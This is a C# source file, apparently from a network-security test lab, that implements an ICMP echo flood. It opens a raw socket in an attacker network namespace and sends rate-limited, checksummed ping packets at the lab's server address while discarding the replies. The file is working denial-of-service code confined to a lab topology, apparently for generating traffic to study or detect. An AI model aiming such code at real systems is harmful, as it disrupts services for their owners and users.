using System.Buffers.Binary;
using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using Uncloak.Core.Wire;
using Uncloak.Lab.Topology;
using Uncloak.Linux.Namespaces;

namespace Uncloak.Lab.Attacks;

/// <summary>
/// ICMP echo requests with <see cref="AttackLimits.PayloadBytes"/> of payload at <see cref="AttackLimits.Rate"/> per second
/// from the attacker's own address (payloads above the MTU leave as fragments, as a ping flood's do).
/// </summary>
public sealed class IcmpFlood : IAttack
{
    public AttackKind Kind => AttackKind.IcmpFlood;

    public AttackStats Run(LabNames names, AttackLimits limits, CancellationToken cancel)
    {
        using var socket = NetNamespace.Run(names.Attacker, () => new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Icmp));
        // Replies are not read: a 1 MiB receive buffer simply overflows and the kernel drops them.
        socket.ReceiveBufferSize = 1 << 20;
        var target = new IPEndPoint(LabNames.ServerAddress, 0);
        var packet = new byte[8 + limits.PayloadBytes];
        packet.AsSpan(8).Fill((byte)'U');
        packet[0] = 8; // echo request
        ushort id = (ushort)Random.Shared.Next(1, 65536);
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(4), id);
        return Pacer.Flood(limits, n =>
        {
            BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(6), (ushort)n);
            packet[2] = packet[3] = 0;
            BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(2), InternetChecksum.Compute(packet));
            socket.SendTo(packet, target);
        }, cancel);
    }
}
